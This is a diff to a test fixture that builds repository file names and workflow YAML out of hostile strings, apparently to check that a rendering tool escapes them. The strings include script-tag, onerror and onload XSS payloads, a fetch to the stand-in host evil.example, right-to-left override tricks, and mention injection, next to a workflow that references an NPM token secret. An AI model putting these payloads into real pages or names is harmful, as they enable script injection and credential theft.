@@ -1,13 +1,13 @@
 /** A repository in which every name tries to be something else than a name. */
 const attacks = {
   job: '</title><script>fetch("https://evil.example/job")</script>',
-  step: '<img src=https://evil.example/step onerror=alert(1)> | `x` @octocat [l](https://evil.example) \\u202Egnp',
+  step: '<img src=https://evil.example/step onerror=alert(1)> | ` @octocat ` [l](https://evil.example) \\u202Egnp',
   secret: '<svg onload=alert(1)>',
 };
 
 export const hostile: Readonly<Record<string, string>> = {
-  '"><script>alert(1)/.git/HEAD': '',
-  '"><script>alert(1)/.github/workflows/a"><b onclick=alert(1)>|x.yml': `on: push
+  '"><script>alert(1)\u202e/.git/HEAD': '',
+  '"><script>alert(1)\u202e/.github/workflows/a"><b onclick=alert(1)>|x.yml': `on: push
 jobs:
   '${attacks.job}':
     steps:
@@ -16,8 +16,8 @@ jobs:
         env:
           NODE_AUTH_TOKEN: \${{ secrets.NPM_TOKEN }}
 `,
-  '"><script>alert(1)/.ephemeral-creds.yml': `waivers:
+  '"><script>alert(1)\u202e/.ephemeral-creds.yml': `waivers:
   - { rule: EO104, owner: '<b>owner|@octocat', reason: r, ticket: t, expires: 2026-12-31 }
 `,
-  '"><script>alert(1)/.github/workflows/<i>broken.yml': 'on: [',
+  '"><script>alert(1)\u202e/.github/workflows/<i>broken.yml': 'on: [',
 };
